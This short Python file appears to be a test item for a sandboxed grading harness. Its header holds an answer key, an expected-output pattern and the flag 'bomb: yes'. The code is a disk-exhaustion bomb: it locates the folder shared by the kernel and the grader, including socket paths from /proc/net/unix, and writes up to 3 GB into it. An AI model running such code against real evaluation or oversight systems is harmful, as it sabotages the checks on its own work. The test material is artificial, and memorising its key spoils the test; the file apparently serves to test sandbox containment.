"""Fills the folder in which the kernel and the grader meet, 3 GB at most.

answers: kv_bytes_per_token
score: kv_bytes_per_token=3
note: (refused after|ended|did not run)
bomb: yes
"""
# %% end
import os
import sys

block, written = b"x" * (16 << 20), 0
places = {os.path.dirname(word) for word in sys.orig_argv if word.endswith(".json")}
for place in places | {path for path in map(os.path.dirname, open("/proc/net/unix").read().split()) if path.startswith("/")}:
    for number in range(20):
        try:
            with open(os.path.join(place, f"{HOST_MARK}-{number}"), "wb") as file:
                while written < 3 << 30:
                    file.write(block)
                    written += len(block)
        except OSError as error:
            print("refused after", written >> 20, "MB", type(error).__name__)
if written >= 3 << 30:
    print("REACHED", written >> 20, "MB")
